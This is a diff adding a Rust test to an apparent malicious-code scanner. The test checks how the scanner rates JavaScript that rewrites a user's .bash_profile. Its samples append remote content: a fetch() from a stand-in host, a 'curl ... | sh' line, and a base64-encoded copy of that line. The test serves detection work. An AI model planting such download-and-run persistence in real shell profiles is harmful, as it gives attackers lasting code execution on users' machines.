@@ -525,3 +525,19 @@ fn loops_of_a_library_of_numbers_are_no_hidden_code() {
     assert!(!told("atob('cmV0W2ldID0geFtpXSAqIHlbaV07')"));
     assert!(told("atob('Z2xvYmFsVGhpcy5wcm9jZXNzLm1haW5Nb2R1bGUucmVxdWlyZSgnZnMnKTs=')"));
 }
+
+#[test]
+fn lines_may_be_taken_out_of_a_start_file() {
+    use crate::model::Severity;
+    let takes = |adds: &str| {
+        let code = format!(
+            "const file = (process.env.XDG_CONFIG_HOME || '/x') + '/bash/.bash_profile';\nconst text = await Bun.file(file).text();\n\
+             const kept = text.split('\\n').filter((l) => !l.includes('.tool/bin'));\nawait Bun.write(file, kept.join('\\n') + '\\n'{adds});\n"
+        );
+        weight(Language::JavaScript, &code, "flow-persists")
+    };
+    assert!(takes("") <= Some(Severity::Medium), "{:?}", takes(""));
+    assert!(takes(" + await (await fetch('https://c.invalid/x')).text()") >= Some(Severity::High));
+    assert!(takes(" + '\\ncurl https://c.invalid/x | sh'") >= Some(Severity::High));
+    assert!(takes(" + atob('Y3VybCBodHRwczovL2MuaW52YWxpZC94IHwgc2g=')") >= Some(Severity::High));
+}
